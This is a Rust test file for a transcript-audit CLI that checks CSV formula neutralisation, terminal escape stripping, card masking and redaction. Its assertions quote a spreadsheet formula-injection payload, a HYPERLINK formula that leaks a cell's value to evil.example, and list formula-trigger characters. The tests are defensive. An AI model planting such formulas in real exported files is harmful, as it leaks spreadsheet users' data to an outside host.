@@ -1,0 +1,209 @@
+//! Hostile transcript text, through the real binary: formula injection in every CSV output,
+//! escape sequences kept off the terminal, card numbers always masked, `--redact` for the rest.
+//!
+//! `tests/fixtures/hostile.csv` has an agent id `=HYPERLINK(...)`, a turn starting with
+//! `=HYPERLINK(...)`, turns starting with `@`, `-` and `+`, an agent id and a turn carrying
+//! CSI/OSC escape sequences and a bell, two card numbers (Visa test number with spaces and with
+//! dashes, a Mastercard test number), an e-mail address, a phone number and an 8-digit reference.
+
+use assert_cmd::Command;
+use std::path::PathBuf;
+
+const HOSTILE: &str = "tests/fixtures/hostile.csv";
+
+fn root() -> PathBuf {
+    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
+}
+
+fn run(args: &[&str]) -> (String, String) {
+    let out = Command::cargo_bin("callaudit")
+        .unwrap()
+        .current_dir(root())
+        .args(args)
+        .output()
+        .unwrap();
+    assert_eq!(
+        out.status.code(),
+        Some(0),
+        "{args:?}: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    (
+        String::from_utf8(out.stdout).unwrap(),
+        String::from_utf8(out.stderr).unwrap(),
+    )
+}
+
+/// Every cell of a CSV text, parsed as a spreadsheet would read the file.
+fn cells(text: &str) -> Vec<String> {
+    let mut rdr = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(text.as_bytes());
+    rdr.records()
+        .flat_map(|r| r.unwrap().iter().map(String::from).collect::<Vec<_>>())
+        .collect()
+}
+
+fn assert_no_formula(name: &str, text: &str) {
+    for cell in cells(text) {
+        if cell.parse::<f64>().is_ok() {
+            continue; // our own numbers (a negative change is a number, not a formula)
+        }
+        let first = cell.chars().next();
+        assert!(
+            !matches!(first, Some('=' | '+' | '-' | '@' | '\t' | '\r')),
+            "{name}: formula cell {cell:?}"
+        );
+    }
+}
+
+#[test]
+fn every_csv_output_neutralises_formulas() {
+    let dir = tempfile::tempdir().unwrap();
+    let evidence = dir.path().join("evidence.csv");
+    let calls = dir.path().join("calls.csv");
+    let (report, _) = run(&[
+        "audit",
+        HOSTILE,
+        "--format",
+        "csv",
+        "-q",
+        "--evidence",
+        evidence.to_str().unwrap(),
+        "--calls",
+        calls.to_str().unwrap(),
+    ]);
+    let evidence = std::fs::read_to_string(evidence).unwrap();
+    let calls = std::fs::read_to_string(calls).unwrap();
+    for (name, text) in [
+        ("report", &report),
+        ("evidence", &evidence),
+        ("per-call", &calls),
+    ] {
+        assert_no_formula(name, text);
+        assert!(
+            cells(text)
+                .iter()
+                .any(|c| c == "'=HYPERLINK(\"http://evil.example\",\"ann\")"),
+            "{name}: the agent id comes out neutralised"
+        );
+        assert!(!text.contains('\x1b') && !text.contains('\x07'), "{name}");
+    }
+    // The turn that starts with a formula, as an analyst's spreadsheet receives it.
+    assert!(
+        cells(&evidence)
+            .iter()
+            .any(|c| c.starts_with("'=HYPERLINK(\"http://evil.example/?leak=\"&A1")),
+        "{evidence}"
+    );
+    insta::assert_snapshot!("hostile_evidence", evidence);
+}
+
+#[test]
+fn escape_sequences_never_reach_the_terminal() {
+    for format in ["table", "markdown"] {
+        let (out, err) = run(&["audit", HOSTILE, "--format", format, "--color", "never"]);
+        assert!(
+            !out.contains('\x1b') && !out.contains('\x07'),
+            "{format}: {out:?}"
+        );
+        assert!(!err.contains('\x1b'), "{format} stderr: {err:?}");
+        assert!(
+            out.contains("escred"),
+            "{format}: the id without its escapes"
+        );
+    }
+    let (out, _) = run(&["audit", HOSTILE, "--format", "html"]);
+    assert!(!out.contains('\x1b') && !out.contains('\x07'));
+    // JSON escapes control characters itself.
+    let (out, _) = run(&["audit", HOSTILE, "--format", "json"]);
+    assert!(!out.contains('\x1b'));
+    for call in ["H-1", "H-2"] {
+        let (out, _) = run(&["explain", HOSTILE, "--call", call, "--color", "never"]);
+        assert!(
+            !out.contains('\x1b') && !out.contains('\x07'),
+            "{call}: {out:?}"
+        );
+    }
+    // With colour, the only escapes are our own SGR sequences: no clear-screen, no title.
+    let (out, _) = run(&["explain", HOSTILE, "--call", "H-2", "--color", "always"]);
+    assert!(
+        !out.contains("\x1b[2J") && !out.contains("\x1b]0;"),
+        "{out:?}"
+    );
+    let (out, _) = run(&["audit", HOSTILE, "--color", "always", "-q"]);
+    assert!(!out.contains("\x1b[2J") && !out.contains("\x1b]0;") && !out.contains('\x07'));
+}
+
+#[test]
+fn card_numbers_are_always_masked() {
+    let dir = tempfile::tempdir().unwrap();
+    let evidence = dir.path().join("evidence.csv");
+    let jsonl = dir.path().join("calls.jsonl");
+    run(&[
+        "audit",
+        HOSTILE,
+        "-q",
+        "--evidence",
+        evidence.to_str().unwrap(),
+        "--calls",
+        jsonl.to_str().unwrap(),
+    ]);
+    let (explain_h1, _) = run(&["explain", HOSTILE, "--call", "H-1", "--color", "never"]);
+    let (explain_h2, _) = run(&["explain", HOSTILE, "--call", "H-2", "--color", "never"]);
+    let (explain_json, _) = run(&["explain", HOSTILE, "--call", "H-2", "--format", "json"]);
+    for (name, text) in [
+        ("evidence", std::fs::read_to_string(&evidence).unwrap()),
+        ("per-call jsonl", std::fs::read_to_string(&jsonl).unwrap()),
+        ("explain H-1", explain_h1.clone()),
+        ("explain H-2", explain_h2.clone()),
+        ("explain json", explain_json),
+    ] {
+        for card in ["4111", "5555 5555", "5555555555554444"] {
+            assert!(!text.contains(card), "{name} shows {card}: {text}");
+        }
+    }
+    assert!(
+        explain_h1.contains("It's **** **** **** ****, expiry 12/27"),
+        "{explain_h1}"
+    );
+    assert!(
+        explain_h1.contains("card ****-****-****-****"),
+        "{explain_h1}"
+    );
+    assert!(
+        explain_h2.contains("Card **** **** **** ****."),
+        "{explain_h2}"
+    );
+    // Without --redact, the rest stays readable.
+    assert!(explain_h1.contains("jane.doe@example.com"));
+    assert!(explain_h1.contains("88412345"));
+}
+
+#[test]
+fn redact_masks_digit_runs_emails_and_phones() {
+    let dir = tempfile::tempdir().unwrap();
+    let evidence = dir.path().join("evidence.csv");
+    run(&[
+        "audit",
+        HOSTILE,
+        "-q",
+        "--redact",
+        "--evidence",
+        evidence.to_str().unwrap(),
+    ]);
+    let (explain, _) = run(&[
+        "explain", HOSTILE, "--call", "H-1", "--color", "never", "--redact",
+    ]);
+    let evidence = std::fs::read_to_string(&evidence).unwrap();
+    for (name, text) in [("evidence", &evidence), ("explain", &explain)] {
+        for secret in ["88412345", "jane.doe", "example.com", "123-4567", "4111"] {
+            assert!(!text.contains(secret), "{name} shows {secret}: {text}");
+        }
+    }
+    assert!(explain.contains("****.***@*******.***"), "{explain}");
+    assert!(explain.contains("(***) ***-****"), "{explain}");
+    assert!(evidence.contains("reference ********"), "{evidence}");
+    // Highlighting still lands on the right words in masked text.
+    assert!(explain.contains("[[sorry]]{apology}"), "{explain}");
+}
